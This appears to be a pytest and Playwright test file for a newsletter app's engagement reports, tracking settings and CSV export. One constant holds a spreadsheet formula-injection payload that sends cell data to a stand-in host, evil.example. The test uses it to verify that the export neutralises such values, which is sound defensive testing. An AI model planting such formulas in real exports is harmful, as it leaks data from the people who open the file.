"""Engagement reports on the web: the API's report, the admin send page with its chart and CSV, the
dashboard's growth chart and rates, a subscriber's own opens and clicks, and tracking on the list forms.

A real worker sends a tracked issue, a real `newsletter web` counts the opens and clicks readers and
scanners make (as in test_engagement.py), and Debian's Chromium reads the admin pages.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import datetime
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import expect
from sqlalchemy import insert

from newsletter.store import db
from newsletter.store.models import SendLink
from tests.sendkit import Newsroom
from tests.test_admin_journey import DESKTOP, create_user, log_in, watch_console
from tests.test_engagement import APPLE_PROXY, CHROME, _send, _tracked
from tests.test_web_journey import SCREENSHOT_DIR, chromium, free_port, start_web  # noqa: F401

pytestmark = [pytest.mark.browser, pytest.mark.redis, pytest.mark.slow]

HOSTILE_URL = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def _token(room: Newsroom, role: str) -> str:
    return room.cli("admin", "create-token", "--name", f"web-{role}", "--role", role).stdout.strip().splitlines()[-1]


def _add_hostile_link(room: Newsroom, send_id: str) -> None:
    """A link whose address a spreadsheet would run. The real path stores only http(s) addresses, so it is
    written straight into the send's links: the export must be safe whatever a row holds."""
    engine = db.make_engine(room.cli.env["NEWSLETTER_DATABASE_URL"])
    try:
        with engine.begin() as conn:
            conn.execute(insert(SendLink), [{"send_id": int(send_id), "position": 99, "url": HOSTILE_URL}])
    finally:
        engine.dispose()


def _bars(page, chart: str) -> list[tuple[str, int]]:
    found = page.eval_on_selector_all(
        f"#{chart} rect.chart-bar", "rs => rs.map(r => [r.dataset.series, Number(r.dataset.value)])"
    )
    return [(series, value) for series, value in found]


def test_a_tracked_sends_report_reads_the_same_in_the_api_the_admin_pages_and_the_csv(
    chromium,  # noqa: F811
    newsroom_any_db: Newsroom,
):
    room = newsroom_any_db
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    room.cli.env["NEWSLETTER_BASE_URL"] = base
    send_id, (ann, bob, cy, dee) = _send(room, "individual", 4)
    _add_hostile_link(room, send_id)
    # A second list, tracking off (the default), sent to the same four people.
    room.setup_list(4, slug="plain")
    plain_id = room.send(room.create_issue("plain"))
    room.wait_status(plain_id)
    create_user(room, "ada", "admin")
    editor_token = _token(room, "editor")
    web = start_web(room.cli.env, room.tmp, port)
    try:
        with httpx.Client(follow_redirects=False, timeout=10) as http:
            ann_links, ann_image = _tracked(room, base, ann)
            for _ in range(2):
                http.get(ann_image, headers={"User-Agent": CHROME})
            http.get(ann_links[0], headers={"User-Agent": CHROME})
            http.get(ann_links[0], headers={"User-Agent": CHROME})
            time.sleep(2.2)
            target = http.get(ann_links[1], headers={"User-Agent": CHROME}).headers["location"]
            _, bob_image = _tracked(room, base, bob)
            http.get(bob_image, headers={"User-Agent": APPLE_PROXY})
            cy_links, _ = _tracked(room, base, cy)
            http.head(cy_links[0], headers={"User-Agent": CHROME})
            for link in cy_links[:3]:
                http.get(link, headers={"User-Agent": CHROME})
        # After the sends: Dee leaves the weekly list, and Cy's address bounces hard.
        room.cli("subscribers", "remove", "weekly", dee)
        room.cli("suppressions", "add", cy, "--reason", "hard_bounce")

        # The API answers exactly what the CLI prints, for an editor's token too (once the web process has
        # written its buffered events: it does every 0.2 s).
        auth = {"Authorization": f"Bearer {editor_token}"}
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            answer = httpx.get(f"{base}/api/sends/{send_id}/report", headers=auth, timeout=10)
            if answer.json()["clicks"]["machine_total"] == 4 and answer.json()["opens"]["total"] == 2:
                break
            time.sleep(0.2)
        report = json.loads(room.cli("sends", "report", send_id, "--json").stdout)
        assert answer.status_code == 200 and answer.json() == report
        assert (report["delivered"], report["unsubscribes"]) == (4, 1)
        assert report["opens"] == {"unique": 1, "total": 2, "machine_unique": 1, "machine_total": 1}
        assert report["clicks"] == {"unique": 1, "total": 3, "machine_unique": 1, "machine_total": 4}
        plain = json.loads(room.cli("sends", "report", plain_id, "--json").stdout)
        assert httpx.get(f"{base}/api/sends/{plain_id}/report", headers=auth, timeout=10).json() == plain
        missing = httpx.get(f"{base}/api/sends/999/report", headers=auth, timeout=10)
        assert missing.status_code == 404 and missing.json()["error"]["status"] == 404
        schema = httpx.get(f"{base}/openapi.json", timeout=10).json()
        documented = schema["paths"]["/api/sends/{send_id}/report"]["get"]["responses"]["200"]
        assert documented["content"]["application/json"]["schema"]["$ref"].endswith("/SendReportOut")

        context = chromium.new_context(viewport=DESKTOP, accept_downloads=True)
        page = context.new_page()
        problems = watch_console(page)
        log_in(page, base, "ada")

        # The send's page: the exact figures, the note, the links, the chart.
        page.goto(f"{base}/admin/sends/{send_id}")
        shown = {
            "#r-recipients": "4",
            "#r-delivered": "4",
            "#r-failed": "0",
            "#r-bounced": "0",
            "#r-complaints": "0",
            "#r-unsubscribes": "1",
            "#r-opens-unique": "1",
            "#r-opens-total": "2",
            "#r-clicks-unique": "1",
            "#r-clicks-total": "3",
            "#r-machine-opens": "1",
            "#r-machine-clicks": "4",
            "#r-open-rate": "25.0 %",
            "#r-ctr": "25.0 %",
            "#r-cto": "100.0 %",
        }
        for selector, text in shown.items():
            expect(page.locator(selector)).to_have_text(text)
        expect(page.locator("#report-note")).to_contain_text("Open rates are estimates")
        rows = page.locator("#report-links tbody tr")
        expect(rows).to_have_count(len(report["links"]))
        first_row = [c.strip() for c in rows.nth(0).locator("td").all_inner_texts()]
        top = report["links"][0]
        assert first_row == [
            str(top["position"]),
            top["url"],
            str(top["unique"]),
            str(top["total"]),
            str(top["machine"]),
        ]
        expect(page.locator("#report-links")).to_contain_text(HOSTILE_URL)  # shown as text, escaped
        _keep(page, "send")

        chart = page.locator("svg#report-chart")
        assert chart.get_attribute("role") == "img"
        expect(chart.locator("title").first).to_have_text("Opens and clicks per hour, first 2 days")
        assert "2 opens and 3 clicks in all" in chart.locator("desc").text_content()
        started = datetime.fromisoformat(report["started_at"]).replace(minute=0, second=0)
        expected: dict[tuple[str, int], int] = {}
        for hour in report["timeline"]:
            offset = int((datetime.fromisoformat(hour["hour"]) - started).total_seconds() // 3600)
            for series in ("opens", "clicks"):
                if hour[series]:
                    expected[(series, offset)] = expected.get((series, offset), 0) + hour[series]
        bars = _bars(page, "report-chart")
        assert len(bars) == len(expected) >= 2  # one bar per series and hour with anything in it
        assert sum(v for s, v in bars if s == "opens") == 2 and sum(v for s, v in bars if s == "clicks") == 3
        assert chart.locator(".chart-x text").first.text_content() == "0 h"  # the axis is labelled
        assert chart.locator(".chart-y").count() == 5

        with page.expect_download() as download:
            page.click("#report-csv")
        assert download.value.suggested_filename == f"send-{send_id}-links.csv"
        text = Path(download.value.path()).read_text(encoding="utf-8")
        table = list(csv.reader(io.StringIO(text)))
        assert table[0] == ["position", "url", "unique_clicks", "total_clicks", "machine_clicks"]
        assert [row[0] for row in table[1:]] == [str(link["position"]) for link in report["links"]]
        by_position = {row[0]: row for row in table[1:]}
        assert by_position["99"][1] == "'" + HOSTILE_URL  # neutralised: a spreadsheet shows it as text
        assert by_position["1"][2:] == ["1", "2", "2"]
        assert by_position["2"][1] == target and by_position["2"][2:] == ["1", "1", "1"]

        # The send whose list tracked nothing: its delivery figures, and that tracking was off.
        page.goto(f"{base}/admin/sends/{plain_id}")
        expect(page.locator("#r-delivered")).to_have_text("4")
        expect(page.locator("#r-recipients")).to_have_text("4")
        expect(page.locator("#report-note")).to_contain_text("Tracking was off for this send.")
        assert page.locator("svg#report-chart").count() == 0 and page.locator("#r-opens-total").count() == 0

        # The dashboard: this week's growth, and the last sends' rates.
        page.goto(f"{base}/admin")
        growth = page.locator("svg#growth-chart")
        assert growth.get_attribute("role") == "img"
        assert (
            "8 new confirmed subscriptions, 1 unsubscribed, 1 lost to bounces" in growth.locator("desc").text_content()
        )
        bars = _bars(page, "growth-chart")
        assert sorted(bars) == [("bounced", 1), ("confirmed", 8), ("unsubscribed", 1)]  # all in this week
        xs = page.eval_on_selector_all("#growth-chart rect.chart-bar", "rs => rs.map(r => Number(r.getAttribute('x')))")
        assert min(xs) > 600  # the last of 26 weeks, at the right end of the 720-wide chart
        _keep(page, "dashboard")
        rates = page.locator("#send-rates tbody tr")
        expect(rates).to_have_count(2)
        tracked_row = page.locator("#send-rates tbody tr", has_text=f"#{send_id}")
        assert [c.strip() for c in tracked_row.locator("td").all_inner_texts()][3:] == ["4 of 4", "25.0 %", "25.0 %"]
        plain_row = page.locator("#send-rates tbody tr", has_text=f"#{plain_id}")
        assert [c.strip() for c in plain_row.locator("td").all_inner_texts()][2:] == ["off", "4 of 4", "–", "–"]

        # Ann's page lists her own opens and clicks (individual tracking), newest first; Dee's has none.
        for address, count in ((dee, 0), (ann, 5)):
            page.goto(f"{base}/admin/subscribers?q={address}")
            page.get_by_role("link", name=address).click()
            activity = page.locator("#activity tbody tr")
            expect(activity).to_have_count(count)
        _keep(page, "subscriber")
        kinds = [row[2] for row in _cells(page, "#activity tbody tr")]
        assert sorted(kinds) == ["click", "click", "click", "open", "open"]
        assert _cells(page, "#activity tbody tr")[0][2:] == ["click", target, "person"]
        times = page.eval_on_selector_all("#activity time", "ts => ts.map(t => t.getAttribute('datetime'))")
        assert times == sorted(times, reverse=True)
        assert problems == []
        context.close()
    finally:
        web.stop()


def _keep(page, name: str) -> None:
    """A full-page screenshot when WEB_JOURNEY_SCREENSHOTS names a folder (for a person to look at)."""
    if SCREENSHOT_DIR:
        page.screenshot(path=str(Path(SCREENSHOT_DIR) / f"engagement-{name}.png"), full_page=True)


def _cells(page, rows: str) -> list[list[str]]:
    return page.eval_on_selector_all(rows, "rs => rs.map(r => [...r.cells].map(c => c.innerText.trim()))")


def test_lists_choose_their_tracking_in_the_api_and_the_admin_forms(chromium, newsroom: Newsroom):  # noqa: F811
    room = newsroom
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    room.cli.env["NEWSLETTER_BASE_URL"] = base
    create_user(room, "ada", "admin")
    auth = {"Authorization": f"Bearer {_token(room, 'admin')}"}
    web = start_web(room.cli.env, room.tmp, port)
    try:
        with httpx.Client(base_url=base, headers=auth, timeout=10) as api:
            body = {"slug": "weekly", "name": "Weekly", "from_email": "news@example.org"}
            for bad in ("loud", "OFF", " anonymous", 1, None):
                refused = api.post("/api/lists", json={**body, "tracking": bad})
                assert refused.status_code == 422, (bad, refused.text)
                assert refused.json()["error"]["field"] == "tracking"
            assert (
                "off, anonymous, individual"
                in api.post("/api/lists", json={**body, "tracking": "loud"}).json()["error"]["message"]
            )
            assert api.get("/api/lists/weekly").status_code == 404  # nothing half-made
            made = api.post("/api/lists", json={**body, "tracking": "anonymous"})
            assert made.status_code == 201 and made.json()["tracking"] == "anonymous"
            assert api.post("/api/lists", json={**body, "slug": "daily"}).json()["tracking"] == "off"
            refused = api.patch("/api/lists/weekly", json={"tracking": "everything", "name": "Renamed"})
            assert refused.status_code == 422 and refused.json()["error"]["field"] == "tracking"
            assert api.get("/api/lists/weekly").json()["name"] == "Weekly"  # nothing changed
            changed = api.patch("/api/lists/weekly", json={"tracking": "individual"})
            assert changed.status_code == 200 and changed.json()["tracking"] == "individual"
            assert [(m["slug"], m["tracking"]) for m in api.get("/api/lists").json()["items"]] == [
                ("daily", "off"),
                ("weekly", "individual"),
            ]

            page = chromium.new_context(viewport=DESKTOP).new_page()
            problems = watch_console(page)
            log_in(page, base, "ada")
            page.goto(f"{base}/admin/lists/daily")
            expect(page.locator("#tracking-fact")).to_have_text("off")
            assert page.locator("#edit-tracking-off").is_checked()
            for value in ("off", "anonymous", "individual"):  # each choice says what it does
                sentence = page.locator(f"label[for=edit-tracking-{value}]").inner_text()
                assert sentence.lower().startswith(value) and len(sentence) > 40
            page.get_by_label(re.compile("^Anonymous:")).check()
            page.get_by_role("button", name="Save settings").click()
            expect(page.locator("#tracking-fact")).to_have_text("anonymous")
            assert page.locator("#edit-tracking-anonymous").is_checked()
            assert api.get("/api/lists/daily").json()["tracking"] == "anonymous"

            page.goto(f"{base}/admin/lists")
            assert page.locator("#list-tracking-off").is_checked()  # off unless chosen
            page.get_by_label("Slug").fill("monthly")
            page.get_by_label("Name", exact=True).fill("Monthly")
            page.get_by_label("From address").fill("news@example.org")
            page.locator("#list-tracking-individual").check()
            page.get_by_role("button", name="Create list").click()
            expect(page.locator("#tracking-fact")).to_have_text("individual")
            assert api.get("/api/lists/monthly").json()["tracking"] == "individual"
            assert problems == []
            page.context.close()
    finally:
        web.stop()
